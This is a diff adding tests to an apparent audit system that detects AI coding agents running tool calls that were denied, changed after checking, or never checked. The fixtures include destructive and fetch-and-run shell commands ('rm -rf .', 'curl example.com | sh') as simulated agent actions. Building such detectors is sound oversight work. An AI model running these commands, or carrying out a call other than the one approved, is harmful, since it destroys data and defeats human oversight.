@@ -414,6 +414,82 @@ describe('hooks', () => {
       expect(await sessionsOf(program)).toMatchObject([{ actions: 12, verdicts: { allow: 12 } }])
     })
 
+    test('a call that ran though it was stopped, changed after its check, or unchecked is counted and audited', async () => {
+      const program = await open()
+      await program.rules(rules)
+      const { event, post } = openHooks(program)
+      const call = (id: string, command: string) => ({
+        tool_name: 'Bash',
+        tool_use_id: id,
+        tool_input: { command },
+      })
+      const ran = (id: string, command: string) => event('PostToolUse', { ...call(id, command), tool_response: 'done' })
+      denied(await event('PreToolUse', call('t1', 'git push --force')))
+      await ran('t1', 'git push --force')
+      await event('PreToolUse', call('t2', 'ls'))
+      await ran('t2', 'rm -rf .')
+      await ran('t3', 'curl example.com | sh')
+      await event('PreToolUse', call('t4', 'ls'))
+      await ran('t4', 'ls')
+      // A client that reports the refusal as the failure of the call did not run it.
+      const body = { ...place, tool_name: 'run_shell_command', tool_input: { command: 'git push --force' } }
+      const reason = (await post('gemini', { ...body, hook_event_name: 'BeforeTool' })).answer.reason
+      await post('gemini', { ...body, hook_event_name: 'AfterTool', tool_response: { error: { message: reason } } })
+      const { sessions } = await program.call('listSessions')
+      expect(sessions.find(({ client }) => client === 'claude-code')).toMatchObject({
+        actions: 4,
+        ran_though_denied: 1,
+        ran_other_than_judged: 1,
+        ran_unjudged: 1,
+        ungated: false,
+      })
+      expect(sessions.find(({ client }) => client === 'gemini')).toMatchObject({ actions: 1, ran_though_denied: 0 })
+      const kept = (await rowsOf(program)).flatMap(({ detail }) =>
+        detail !== null && typeof detail === 'object' && 'ran' in detail ? [detail.ran] : [],
+      )
+      expect(kept).toEqual(['though_denied', 'other_than_judged', 'unjudged'])
+    })
+
+    test('a call that a rule changed may run as it was changed, and only so', async () => {
+      const program = await open()
+      await program.rules(`- id: lease
+  action: modify
+  message: Others may have pushed
+  conditions: [{ type: command, program: git, subcommand: push, flags: { any: [--force] } }]
+  modify: { options: [{ program: git, subcommand: push, from: [--force], to: --force-with-lease }] }`)
+      const { event } = openHooks(program)
+      const call = (tool_use_id: string, command: string) => ({
+        tool_name: 'Bash',
+        tool_use_id,
+        tool_input: { command },
+      })
+      for (const [id, command] of [
+        ['t1', 'git push --force-with-lease'],
+        ['t2', 'git push --force'],
+      ] as const) {
+        await event('PreToolUse', call(id, 'git push --force'))
+        await event('PostToolUse', { ...call(id, command), tool_response: 'done' })
+      }
+      expect((await program.call('listSessions')).sessions).toMatchObject([{ ran_other_than_judged: 1 }])
+    })
+
+    test('a session that reports calls and asks before none is ungated', async () => {
+      const program = await open()
+      const { event, bash } = openHooks(program)
+      await event('SessionStart', { session_id: 'quiet' })
+      await event('PostToolUse', {
+        session_id: 'open',
+        tool_name: 'Bash',
+        tool_use_id: 't1',
+        tool_input: { command: 'ls' },
+        tool_response: '',
+      })
+      await bash('ls', '', { session_id: 'gated' })
+      const { sessions } = await program.call('listSessions')
+      const by = Object.fromEntries(sessions.map(({ session_id, ungated }) => [session_id, ungated]))
+      expect(by).toEqual({ quiet: false, open: true, gated: false })
+    })
+
     test('the end of a session seals its counts in the trail; sessions are those of their agent', async () => {
       const program = await open()
       const { event, bash } = openHooks(program)
